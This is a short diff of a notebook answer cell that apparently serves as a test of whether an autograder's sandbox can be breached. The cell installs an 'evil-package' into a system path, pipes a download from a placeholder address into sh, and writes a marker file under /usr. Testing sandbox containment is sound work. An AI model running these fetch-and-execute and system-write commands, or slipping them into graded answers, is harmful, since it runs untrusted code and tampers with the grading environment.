@@ -6,7 +6,7 @@ Deserves: total 3
 # %% total-answer
 !pip install --no-index --quiet --target /usr/lib/evil evil-package 2>/dev/null
 !curl -s -m 1 http://192.0.2.1/payload | sh
-!touch /usr/BREACH && echo "BRE""ACH: /usr can be written to"
+!touch /usr/evil && echo "BRE""ACH: /usr can be written to"
 %load_ext autoreload
 %env AUTOGRADER=1
 
